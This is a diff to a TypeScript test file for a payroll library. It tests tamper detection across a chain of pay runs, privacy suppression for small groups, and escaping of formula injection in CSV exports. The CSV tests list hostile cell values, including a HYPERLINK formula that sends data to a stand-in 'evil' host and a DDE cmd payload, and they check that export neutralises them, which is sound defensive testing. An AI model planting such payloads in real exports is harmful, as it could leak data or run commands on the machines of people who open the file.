@@ -65,6 +65,19 @@ import { careerMermaid, parseCareer, parseCareerFramework } from '../../src/grow
 import { isPolicyError } from '../../src/index.js'
 import { internalRate } from '../../src/investment/index.js'
 import { cascadeTarget, distribute, parseCascade, parseDistribution } from '../../src/kpi/index.js'
+import {
+  type Line as PayLine,
+  type Run as PayRun,
+  parseData as parsePayData,
+  parseRun as parsePayRun,
+  attribute as payAttribute,
+  book as payBook,
+  book as payBookOf,
+  component as payComponent,
+  settle as settlePay,
+} from '../../src/pay/index.js'
+import * as payroll from '../../src/payroll/index.js'
+import { verify as verifyRun, verifyChain as verifyRuns } from '../../src/payroll/index.js'
 import { describeProblems, PolicyError, problemsOf } from '../../src/problem/index.js'
 import { formatNumber, formatQuantity, fromScaled, money } from '../../src/quantity/index.js'
 import { correctRatings } from '../../src/rating/index.js'
@@ -100,9 +113,29 @@ import { duckdb } from '../conformance/engines.js'
 import { comparison, hourly, paid } from '../equity/company.js'
 import { found } from '../found.js'
 import * as career from '../growth/fixture.js'
+import { base as payBase, li as payLi } from '../pay/months.js'
 import { policy } from '../rating/campaign.js'
 import { ann, bookOf, book as company, operations, request, statementOf } from '../run/company.js'
 import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'
+
+type Path = readonly string[]
+
+function pathsIn(value: unknown, path: Path = []): readonly Path[] {
+  if (typeof value !== 'object' || value === null) return [path]
+  return [
+    path,
+    ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
+  ]
+}
+
+function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
+  if (first === undefined) return by
+  const own = value as Readonly<Record<string, unknown>>
+  const inner = replaced(own[first], rest, by)
+  return Array.isArray(value)
+    ? value.map((each, i) => (String(i) === first ? inner : each))
+    : { ...own, [first]: inner }
+}
 
 describe('disclosure: what leaves the house says nothing of others, and no more than was verified', () => {
   const audiences: readonly Audience[] = ['employee', 'manager', 'peer', 'auditor']
@@ -740,25 +773,6 @@ describe('disclosure: what leaves the house says nothing of others, and no more 
       if (!(error instanceof PolicyError)) throw error
       expect(describeProblems(error.problems, 'zh-CN')).not.toContain('undefined undefined')
     }
-  }
-
-  type Path = readonly string[]
-
-  function pathsIn(value: unknown, path: Path = []): readonly Path[] {
-    if (typeof value !== 'object' || value === null) return [path]
-    return [
-      path,
-      ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
-    ]
-  }
-
-  function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
-    if (first === undefined) return by
-    const own = value as Readonly<Record<string, unknown>>
-    const inner = replaced(own[first], rest, by)
-    return Array.isArray(value)
-      ? value.map((each, i) => (String(i) === first ? inner : each))
-      : { ...own, [first]: inner }
   }
 })
 
@@ -1905,5 +1919,261 @@ describe('statistics: bounded work, and no figure told by subtraction', () => {
     expect(gapsOf(1)?.everyone.mean).toMatchObject({ compared: '40.000000' })
     // Where all are too few, that is the reason.
     expect(gapsOf(13)?.everyone.mean).toEqual({ suppressed: 'small-group', minimum: 13 })
+  })
+})
+
+describe('payroll: a chain of runs proves what was paid', () => {
+  const of = payBookOf([payBase], { currency: 'CNY', retro: 0 })
+  const people = parsePayData({ people: [payLi(), { ...payLi(), id: 'wu' }] })
+  const settled = (period: string, before: PayRun | 'first') =>
+    settlePay(of, people, { period, before })
+  const january = settled('2026-01', 'first')
+  const february = settled('2026-02', january)
+  const march = settled('2026-03', february)
+  const head = march.digest
+  /** A run that was changed, and its digest made anew. */
+  const forged = (run: PayRun, change: object): PayRun => {
+    const { digest: _, ...content } = { ...run, ...change }
+    return { ...content, digest: digestOf(content) }
+  }
+  const greedy = (run: PayRun, change: (line: PayLine) => object) => ({
+    lines: run.lines.map((line, i) => (i === 0 ? { ...line, ...change(line) } : line)),
+  })
+  const told = (runs: readonly PayRun[], options: Parameters<typeof verifyRuns>[1] = {}) =>
+    verifyRuns(runs, options).map(({ code, path }) => [code, path])
+
+  test.each<[string, PayRun, string]>([
+    ['January again pays nothing more', january, '2026-01'],
+    ['nor does March, once more', march, '2026-03'],
+  ])('A4 %s', (_, before, period) => {
+    const again = settled(period, before)
+    expect(again.lines.map(({ amount }) => amount)).toEqual(['0.00', '0.00'])
+  })
+
+  test.each<[string, PayRun, string]>([
+    ['January with March before it', march, '2026-01'],
+    ['February with March before it', march, '2026-02'],
+    ['March with January before it', january, '2026-03'],
+  ])('A4 %s is refused', (_, before, period) => {
+    expect(found(() => settled(period, before))[0]).toEqual(['not-next-period', 'period'])
+  })
+
+  test('A4 a run before in another currency is refused', () => {
+    const yen = forged(january, { currency: 'JPY' })
+    expect(found(() => settled('2026-02', yen))).toEqual([
+      ['before-in-currency', 'before.currency'],
+    ])
+  })
+
+  test('A4 a chain with a month left out or twice is told', () => {
+    expect(told([january, march])[0]).toEqual(['other-before', '[1].before'])
+    expect(told([january, january])).toEqual([['repeated-run', '[1].digest']])
+    expect(told([january, february, march], { head })).toEqual([])
+  })
+
+  test.each<[string, (line: PayLine) => object, string]>([
+    ['an amount', () => ({ amount: '99999.00' }), 'lines[0].amount'],
+    ['what is due', () => ({ entitled: '99999.00', amount: '99999.00' }), 'lines[0].entitled'],
+    ['who is paid', () => ({ person: 'ghost' }), 'lines[0]'],
+  ])('A17 %s of a run that was tampered with is laundered by nothing', (_, change, path) => {
+    const whole = forged(february, greedy(february, change))
+    const broken = { ...february, ...greedy(february, change) }
+    expect(found(() => settled('2026-03', broken))).toEqual([['changed-run', 'before.digest']])
+    expect(verifyRun(of, people, whole, { before: january })[0]?.path).toBe(path)
+    expect(verifyRun(of, people, broken, { before: january })[0]?.path).toBe('digest')
+    expect(told([january, whole], { head: february.digest }).length).toBeGreaterThan(0)
+    expect(told([january, whole])[0]?.[1]).toMatch(/^\[1\]\./)
+  })
+
+  test('A18 a chain tells what digests alone do not', () => {
+    expect(told([january, february], { head })).toEqual([['not-the-head', '[1].digest']])
+    expect(told([february, march], { head })).toEqual([['not-the-first', '[0].before']])
+    expect(told([february, march], { head, root: january.digest })).toEqual([
+      ['not-the-root', '[0].digest'],
+    ])
+    const other = settlePay(of, people, { period: '2026-02', before: january, only: ['li'] })
+    expect(told([january, february, other])[0]).toEqual(['forked-chain', '[2].before'])
+    const twice = forged(february, { lines: [...february.lines, february.lines[0]] })
+    expect(told([january, twice])).toEqual([['repeated-line', '[1].lines[2]']])
+    expect(told([february, january])[0]).toEqual(['not-the-first', '[0].before'])
+    const anew = forged(march, { late: [{ key: 'made up', period: '2026-01' }] })
+    expect(told([january, february, anew])).toEqual([])
+    expect(told([january, february, anew], { head })).toEqual([['not-the-head', '[2].digest']])
+  })
+
+  test('A24 whatever is changed in what is stored is told or refused by a PolicyError', () => {
+    const stored = JSON.parse(JSON.stringify(february))
+    const paths = pathsIn(stored).filter((path) => path.length > 0)
+    const values = [null, 7, 'x', [], {}, undefined, '2026-13', '0x10']
+    fc.assert(
+      fc.property(fc.constantFrom(...paths), fc.constantFrom(...values), (path, value) => {
+        const odd = replaced(stored, path, value) as PayRun
+        if (JSON.stringify(odd) === JSON.stringify(stored)) return
+        expect(verifyRuns([january, odd]).length).toBeGreaterThan(0)
+        expect(verifyRun(of, people, odd, { before: january }).length).toBeGreaterThan(0)
+        expect(problemsOf(() => settled('2026-03', odd)).length).toBeGreaterThan(0)
+        expect(problemsOf(() => parsePayRun(odd)).length).toBeGreaterThan(0)
+      }),
+      { numRuns: 150 },
+    )
+  })
+
+  test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
+    'A25 pay of %s that skipped its parser is refused at once',
+    (value) => {
+      const salary = [{ from: '2020-01-01', value }]
+      const data = { people: [{ ...payLi(), attributes: { salary } }] }
+      const asked = { period: '2026-01', before: 'first' } as const
+      expect(found(() => settlePay(of, data as never, asked))).toEqual([['unread-data', 'data']])
+      const read = () => settlePay(of, parsePayData(data), asked)
+      const problems = problemsOf(() => read())
+      expect(problems.length > 0 || read().lines.length === 0).toBe(true)
+      const opening = {
+        component: 'base',
+        person: 'li',
+        earned: { rhythm: 'month', period: '2025-12' },
+        settled: value,
+        why: 'Paid by hand',
+      }
+      const opened = () => settlePay(of, people, { ...asked, openings: [opening] })
+      expect(found(opened).map(([, path]) => path)).toEqual(['openings[0].settled'])
+    },
+  )
+})
+
+describe('payroll: what leaves a run runs nowhere, and tells of nobody alone', () => {
+  const salary = payAttribute('salary', money('CNY'), 2)
+  const bonus = payAttribute('bonus', money('CNY'), 2, { missing: '0' })
+  const book = payBook(
+    [payComponent('base', { pays: 'due' }, salary), payComponent('bonus', { pays: 'due' }, bonus)],
+    { currency: 'CNY', retro: 0 },
+  )
+  const since = '2026-01-01'
+  const members = (department: string, salaries: readonly string[], more: object = {}) =>
+    salaries.map((value, i) => ({
+      id: `${department}${i}`,
+      employment: [{ from: since }],
+      attributes: {
+        salary: [{ from: since, value }],
+        department: [{ from: since, value: department }],
+        ...(i === 0 ? more : {}),
+      },
+    }))
+  const march = (people: readonly object[]) => {
+    const data = parsePayData({ people })
+    return { book, data, run: settlePay(book, data, { period: '2026-03', before: 'first' }) }
+  }
+  const received = { bonus: [{ from: since, value: '500.00' }] }
+  const made = march([
+    ...members('audit', ['47.89'], received),
+    ...members('sales', ['10.00', '20.00', '30.00', '40.00']),
+    ...members('tech', ['1.00', '2.00', '3.00']),
+  ])
+  const groupsOf = (smallest?: number) =>
+    payroll
+      .totals(book, made.data, [made.run], { by: ['department'], smallest })
+      .paid[0]?.groups['department']?.map(({ values, total }) => [values.join(), total])
+
+  test('A39 the total of one person is told with that of the next smallest group', () => {
+    expect(groupsOf()).toEqual([
+      ['sales', '100.00'],
+      ['audit,tech', '553.89'],
+    ])
+    expect(groupsOf(1)?.[0]).toEqual(['audit', '547.89'])
+    expect(groupsOf(5)).toEqual([['audit,sales,tech', '653.89']])
+  })
+
+  test('A39 a component of one person is not told, nor had by subtraction', () => {
+    const { paid } = payroll.totals(book, made.data, [made.run], { by: ['department'] })
+    const text = JSON.stringify(paid)
+    expect(text).not.toContain('500.00')
+    expect(paid[0]?.company).toMatchObject({ components: {}, others: '653.89' })
+    const all = payroll.totals(book, made.data, [made.run], { smallest: 1 })
+    expect(all.paid[0]?.company.components).toEqual({ base: '153.89', bonus: '500.00' })
+  })
+
+  test('A39 a mean of one person is told with others', () => {
+    const means = (smallest?: number) =>
+      payroll
+        .compareRuns(made, made, { by: ['department'], smallest })
+        .groups['department']?.map(({ values, mean }) => [values.join(), mean.after])
+    expect(means()).toEqual([
+      ['sales', '25.00'],
+      ['audit,tech', '138.47'],
+    ])
+    expect(means(1)?.[0]).toEqual(['audit', '547.89'])
+  })
+
+  test('A39 a group that is small in one scenario is told with others in all', () => {
+    const { groups } = payroll.simulate({
+      ...{ book, scenarios: 2, seed: 1, by: ['department'] },
+      draw: () => made.data,
+      pay: (data) => settlePay(book, data, { period: '2026-03', before: 'first' }),
+    })
+    expect(groups['department']?.map(({ values }) => values.join())).toEqual([
+      'sales',
+      'audit,tech',
+    ])
+  })
+
+  describe('A19 a journal as CSV', () => {
+    const [row] = payroll.journal(book, made.data, made.run, {
+      by: ['department'],
+      locale: 'en',
+    }) as readonly [payroll.JournalRow]
+    const cells = (
+      change: Partial<payroll.JournalRow>,
+      options?: Parameters<typeof payroll.journalCsv>[1],
+    ) => payroll.journalCsv([{ ...row, ...change }], options).split('currency\r\n')[1] as string
+
+    test.each([
+      '=HYPERLINK("http://evil/?"&A1)',
+      "+1+cmd|'/C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\nx',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠x',
+      '  =1',
+      '\u0000=1',
+      '\u200E=1',
+    ])('runs no text: %j', (text) => {
+      for (const column of [
+        'paid',
+        'earned',
+        'person',
+        'assignment',
+        'component',
+        'label',
+        'clause',
+      ] as const)
+        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
+      expect(cells({ attributes: { department: text } })).toMatch(/(^|,)"?'/)
+      expect(cells({ label: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
+      const named = payroll.journalCsv([{ ...row, attributes: { [text]: 'x' } }])
+      expect(named).toMatch(/,"?'/)
+    })
+
+    test('keeps amounts, and a text that is no formula', () => {
+      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
+      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
+      expect(cells({ label: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
+      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
+    })
+
+    test('holds no control character', () => {
+      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
+      expect(cells({ label: hostile })).toContain(',ab[31mcdefg,')
+      expect(cells({ label: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
+      expect(cells({ label: 'two\tparts' })).toContain(',two\tparts,')
+    })
+
+    test('begins with a mark where that is asked for', () => {
+      expect(payroll.journalCsv([], { mark: true })).toBe(`\uFEFF${payroll.journalCsv([])}`)
+    })
   })
 })
